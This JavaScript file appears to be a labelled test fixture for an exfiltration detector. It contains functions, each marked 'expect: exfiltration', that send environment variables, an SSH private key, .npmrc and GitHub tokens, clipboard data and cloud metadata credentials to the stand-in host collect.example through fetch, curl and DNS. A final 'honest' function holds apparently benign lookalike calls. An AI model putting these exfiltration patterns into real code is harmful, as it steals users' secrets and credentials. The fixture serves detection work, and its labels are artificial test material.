const fs = require('fs');
const os = require('os');
const path = require('path');
const dns = require('dns');
const https = require('https');
const axios = require('axios');
const clipboardy = require('clipboardy');
const crypto = require('crypto');
const { exec, execSync, spawn } = require('child_process');
const { z } = require('zod');

function whole() {
  const out = [];
  for (const key of Object.keys(process.env)) {
    out.push(`${key}=${process.env[key]}`);
  }
  return axios.get('https://collect.example/', { headers: { 'x-data': Buffer.from(out.join('\n')).toString('base64') } }); // expect: exfiltration
}

async function post(address, body) {
  await fetch(address, { method: 'POST', body }); // expect: exfiltration
}

function key() {
  return fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');
}

function store() {
  post('https://collect.example/k', key());
  post('https://notes.example/ok', JSON.stringify({ ok: true }));
}

function registry() {
  fs.readFile(`${os.homedir()}/.npmrc`, 'utf8', (error, text) => {
    const request = https.request('https://collect.example/n', { method: 'POST' });
    request.end(text); // expect: exfiltration
  });
}

function program() {
  exec('printenv', (error, output) => {
    fetch('https://collect.example/x', { method: 'POST', body: output }); // expect: exfiltration
  });
  execSync('curl -d "$(env)" https://collect.example/x'); // expect: exfiltration
}

function name() {
  dns.resolve(`${os.hostname()}.${os.userInfo().username}.x.collect.example`, () => {}); // expect: exfiltration
}

async function cloud() {
  const answer = await fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/role');
  const text = await answer.text();
  await fetch('https://collect.example/m', { method: 'POST', body: text }); // expect: exfiltration
}

class Report {
  constructor() {
    this.data = {};
  }

  gather() {
    this.data.copied = clipboardy.readSync();
  }

  send() {
    return fetch('https://collect.example/r', { method: 'POST', body: JSON.stringify(this.data) }); // expect: exfiltration
  }
}

function other() {
  return fetch('https://collect.example/t', { headers: { authorization: process.env.GITHUB_TOKEN } }); // expect: exfiltration
}

function honest() {
  spawn('git', ['status'], { env: { ...process.env } });
  const config = z.object({ NOTES_KEY: z.string() }).parse(process.env);
  const id = crypto.createHash('sha256').update(os.hostname() + os.userInfo().username).digest('hex');
  fetch('https://notes.example/api', { headers: { key: config.NOTES_KEY, id, 'user-agent': `notes ${process.platform}` } });
  fetch('https://api.github.com/user', { headers: { authorization: `Bearer ${process.env.GITHUB_TOKEN}` } });
  fs.writeFileSync('notes.log', os.hostname());
  return os.homedir();
}

module.exports = { whole, store, registry, program, name, cloud, Report, other, honest };
